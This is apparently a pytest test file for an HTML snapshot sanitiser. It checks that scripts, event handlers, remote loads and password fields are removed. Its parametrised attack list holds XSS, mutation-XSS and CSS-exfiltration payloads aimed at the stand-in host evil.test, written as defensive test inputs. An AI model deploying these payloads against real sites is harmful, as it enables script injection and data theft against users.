"""Snapshots: what people see of a page, and nothing that acts, loads or tells."""

import re

import pytest

from bowerbird.extract.snapshot import (
    MOST_BYTES,
    MOST_ELEMENTS,
    NUMBER,
    Snapshot,
    snapshot_of,
)
from bowerbird.extract.snapshot_styles import harmless_css
from bowerbird.extract.tree import tree_of
from bowerbird.model.parts import PageParts

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 50


def snap(html: str, parts: PageParts | None = None) -> Snapshot:
    return snapshot_of(tree_of(html.encode()), "http://shop.test/list", parts or PageParts())


def test_every_element_bears_the_number_of_the_element_that_templates_see():
    shown = snap("<ul><li class=item>One<li class=item>Two</ul><p>Three")

    told = dict(re.findall(rf'<(\w+) {NUMBER}="(\d+)"', shown.html)[::-1])
    again = tree_of(shown.html.encode())
    for element in again.iter():
        if (number := element.get(NUMBER)) is not None:
            original = shown.elements[int(number)]
            assert (original.tag, original.text) == (element.tag, element.text)
    assert shown.elements[int(told["p"])].text == "Three"
    assert shown.root is shown.elements[0]


@pytest.mark.parametrize(
    "attack",
    [
        "<script>steal()</script>",
        "<img src=x onerror=steal()>",
        "<svg onload=steal()><script>steal()</script><set attributeName=href to=//x></svg>",
        "<svg><use href='http://evil.test/x.svg#a'/><image href='http://evil.test/'/></svg>",
        "<a href='javascript:steal()'>x</a><a href=' java&#10;script:steal()'>x</a>",
        "<a href='http://evil.test/' ping='http://evil.test/' target=_top>x</a>",
        "<iframe srcdoc='<script>steal()</script>'></iframe><object data='http://evil.test/'></object>",
        "<base href='http://evil.test/'><meta http-equiv=refresh content='0;url=http://evil.test/'>",
        "<link rel=stylesheet href='http://evil.test/s.css'><link rel=prefetch href='//evil.test'>",
        "<form action='http://evil.test/'><input type=submit formaction='http://evil.test/'></form>",
        "<form action='http://evil.test/'><button formaction='//evil.test/'>x</button></form>",
        "<input type=image src='http://evil.test/i'><input autofocus onfocus=steal()>",
        "<video src='http://evil.test/v' poster='http://evil.test/p'><source src='//evil.test/s'>",
        "<div style='background:url(http://evil.test/b)'>x</div>",
        "<div style='background:u\\72l(http://evil.test/b)'>x</div>",
        "<style>@import 'http://evil.test/i.css'; p { src: url('//evil.test') }</style>",
        "<style>@\\69mport 'http://evil.test/i.css';</style>",
        "<style>[value^=a] { background: image-set('http://evil.test/a' 1x) }</style>",
        "<style>p { background: -webkit-image-set('http://evil.test/a' 1x) }</style>",
        "<style>@font-face { font-family: f; src: url(//evil.test/f); unicode-range: U+41}</style>",
        "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>",
        "<xmp><p title='</xmp><img src=x onerror=steal()>'></xmp>",
        "<textarea><p title='</textarea><script>steal()</script>'></textarea>",
        "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table>",
        "<table background='http://evil.test/b'><tr><td>x</table><img srcset='//evil.test/s 2x'>",
        "<template><script>steal()</script></template><portal src='http://evil.test/'></portal>",
        "<x-card onclick=steal() data-on='steal()'>x</x-card><p is=evil-p contenteditable>x</p>",
    ],
)  # fmt: skip
def test_nothing_of_a_page_acts_or_asks(attack):
    html = snap(f"<p>Before</p>{attack}<p>After</p>").html

    tree = tree_of(html.encode())
    tags = {element.tag for element in tree.iter()}
    assert not tags & {
        "script", "iframe", "object", "base", "link", "template", "noscript", "set", "use", "math",
    }  # fmt: skip
    for element in tree.iter():
        for name, value in element.attrib.items():
            assert not name.startswith("on"), name
            assert name not in {"srcdoc", "action", "formaction", "ping", "srcset", "is", "poster"}
            if name in ("href", "src"):
                assert value == "#" or value.startswith("data:image/")
    for css in [*tree.xpath("//style/text()"), *tree.xpath("//@style")]:
        assert not re.search(r"(?:url|src|image|image-set)\(|@import|@font-face", css, re.I)
    assert [p.text for p in tree.iter("p")][:1] == ["Before"]


def test_a_style_sheet_cannot_end_its_element_and_stays_what_it_was_else():
    assert "</style" not in harmless_css("p::before { content: '</style><script>' }")
    plain = ".md\\:flex > a:not(.x), p { color: #fff; width: calc(1px + 2%) }"
    assert harmless_css(plain) == plain


def test_pictures_that_the_browser_had_are_shown_and_no_others():
    html = "<img src='/a.png'><img src='late.gif' data-src='/b.png'><img src='/c.png'>"
    loaded = {"http://shop.test/a.png": ("image/png", PNG),
              "http://shop.test/b.png": ("image/png", PNG),
              "http://shop.test/c.png": ("text/html", b"<script>")}  # fmt: skip

    shown = snap(html, PageParts(pictures=loaded)).html

    assert shown.count('src="data:image/png;base64,') == 2
    assert "text/html" not in shown


def test_the_styles_that_a_browser_applied_go_before_those_of_the_source():
    shown = snap(
        "<style>p { color: red }</style><p>x", PageParts(styles=["p { color: blue }"])
    ).html

    assert "color: blue" in shown
    assert "color: red" not in shown


def test_what_people_typed_in_secret_is_not_shown():
    shown = snap("<input type=password value=secret><input type=hidden value=token>").html

    assert "secret" not in shown
    assert "token" not in shown


def test_a_snapshot_is_bounded_and_says_what_it_lacks():
    many = snap("<p>x" * (MOST_ELEMENTS + 10))
    large = snap(("<p>" + "word " * 1000) * 2_000 + "<canvas></canvas><iframe></iframe>")
    pictures = {f"http://shop.test/{n}": ("image/png", PNG * 10_000 * (n + 1)) for n in range(9)}
    heavy = snap("".join(f"<img src='/{n}'>" for n in range(9)), PageParts(pictures=pictures))

    assert many.html.count("<p ") < MOST_ELEMENTS
    assert "only the first 20000 of" in many.remarks[0]
    assert len(large.html.encode()) < MOST_BYTES + 10_000
    assert "too large" in "; ".join(large.remarks)
    assert len(heavy.html) < MOST_BYTES
    assert 1 <= heavy.html.count('src="data:') < 9
    assert "large pictures" in heavy.remarks[0]
